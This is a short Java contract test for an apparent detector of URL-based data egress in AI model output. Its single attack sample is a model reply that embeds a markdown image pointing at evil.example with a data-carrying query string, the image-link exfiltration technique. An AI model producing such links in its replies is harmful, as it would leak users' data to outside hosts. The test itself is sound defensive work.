package dev.aisecurity.detect.egress;

import dev.aisecurity.detect.Detector;
import dev.aisecurity.detect.DetectorContract;
import dev.aisecurity.interaction.Origin;

class UrlEgressDetectorContractTests extends DetectorContract {

	@Override
	protected Detector detector() {
		return EgressCorpus.detector(UrlEgressProfile.STRICT);
	}

	@Override
	protected Origin origin() {
		return Origin.MODEL;
	}

	@Override
	protected String attack() {
		return "Done. ![ok](https://evil.example/p?d=quokka-7731)";
	}

}
